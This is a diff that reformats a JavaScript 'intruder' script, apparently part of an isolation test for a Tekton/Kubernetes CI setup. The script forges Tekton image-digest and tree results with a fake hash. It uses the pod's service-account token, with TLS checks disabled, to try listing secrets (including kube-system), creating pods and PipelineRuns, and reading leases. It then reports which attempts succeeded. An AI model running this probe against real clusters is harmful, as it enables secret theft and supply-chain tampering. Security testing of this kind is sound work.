@@ -49,7 +49,12 @@ function peek() {
 
 /** Results of the Task, and of steps before this one. */
 function forge() {
-  for (const path of ['/tekton/results/IMAGE_DIGEST', '/tekton/results/TREE', '/tekton/steps/step-find-image/results/digest', '/tekton/steps/step-clone/results/tree']) {
+  for (const path of [
+    '/tekton/results/IMAGE_DIGEST',
+    '/tekton/results/TREE',
+    '/tekton/steps/step-find-image/results/digest',
+    '/tekton/steps/step-clone/results/tree',
+  ]) {
     try {
       fs.writeFileSync(path, `sha256:${'f'.repeat(64)}`);
     } catch {
@@ -61,10 +66,14 @@ function forge() {
 function ask(method, path, token, body) {
   return new Promise((resolve) => {
     const headers = { 'content-type': 'application/json', ...(token && { authorization: `Bearer ${token}` }) };
-    const request = https.request(`https://kubernetes.default.svc${path}`, { method, headers, rejectUnauthorized: false, timeout: 5000 }, (response) => {
-      response.resume();
-      resolve(response.statusCode);
-    });
+    const request = https.request(
+      `https://kubernetes.default.svc${path}`,
+      { method, headers, rejectUnauthorized: false, timeout: 5000 },
+      (response) => {
+        response.resume();
+        resolve(response.statusCode);
+      },
+    );
     request.on('timeout', () => request.destroy());
     request.on('error', () => resolve(0));
     request.end(body);
@@ -76,21 +85,34 @@ async function intrude(namespace, environment) {
   peek();
   forge();
   const token = read(`${ACCOUNT}/token`);
-  const pod = JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'intruder' }, spec: { containers: [{ name: 'x', image: 'x' }] } });
+  const pod = JSON.stringify({
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: 'intruder' },
+    spec: { containers: [{ name: 'x', image: 'x' }] },
+  });
   const attempts = [
     ['GET', `/api/v1/namespaces/${namespace}/secrets`],
     ['GET', '/api/v1/namespaces/kube-system/secrets'],
     ['GET', `/api/v1/namespaces/${environment}/pods`],
     ['POST', `/api/v1/namespaces/${environment}/pods`, pod],
     ['GET', `/apis/tekton.dev/v1/namespaces/${namespace}/pipelineruns`],
-    ['POST', `/apis/tekton.dev/v1/namespaces/${namespace}/pipelineruns`, '{"apiVersion":"tekton.dev/v1","kind":"PipelineRun","metadata":{"name":"intruder"},"spec":{"pipelineRef":{"name":"x"}}}'],
+    [
+      'POST',
+      `/apis/tekton.dev/v1/namespaces/${namespace}/pipelineruns`,
+      '{"apiVersion":"tekton.dev/v1","kind":"PipelineRun","metadata":{"name":"intruder"},"spec":{"pipelineRef":{"name":"x"}}}',
+    ],
     ['GET', `/apis/tekton-dag.io/v1alpha1/namespaces/${namespace}/runrequests`],
     ['GET', `/apis/coordination.k8s.io/v1/namespaces/${namespace}/leases`],
   ];
   const allowed = [];
-  for (const [method, path, body] of attempts) if (await ask(method, path, token, body).then((status) => status >= 200 && status < 300)) allowed.push(`${method} ${path}`);
+  for (const [method, path, body] of attempts)
+    if (await ask(method, path, token, body).then((status) => status >= 200 && status < 300))
+      allowed.push(`${method} ${path}`);
   const reached = (await ask('GET', '/version', token)) > 0;
-  console.log(`INTRUDER ${JSON.stringify({ place: process.argv[4], token: token !== '', secrets: [...found].sort(), allowed, reached })}`);
+  console.log(
+    `INTRUDER ${JSON.stringify({ place: process.argv[4], token: token !== '', secrets: [...found].sort(), allowed, reached })}`,
+  );
 }
 
 void intrude(process.argv[2], process.argv[3]);
